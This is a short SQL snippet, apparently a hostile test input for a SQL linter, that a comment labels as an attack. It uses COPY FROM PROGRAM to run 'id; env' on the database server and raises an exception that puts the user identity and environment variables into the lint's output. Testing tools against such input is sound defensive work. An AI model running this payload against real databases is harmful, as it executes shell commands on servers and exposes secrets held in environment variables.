-- attack: record who the server runs as and what it inherited, and show it in the lint's output
CREATE TABLE hostile_id (line text);
COPY hostile_id FROM PROGRAM 'id; env';
DO $$ BEGIN RAISE EXCEPTION 'inside: %', (SELECT string_agg(line, ' | ') FROM hostile_id); END $$;
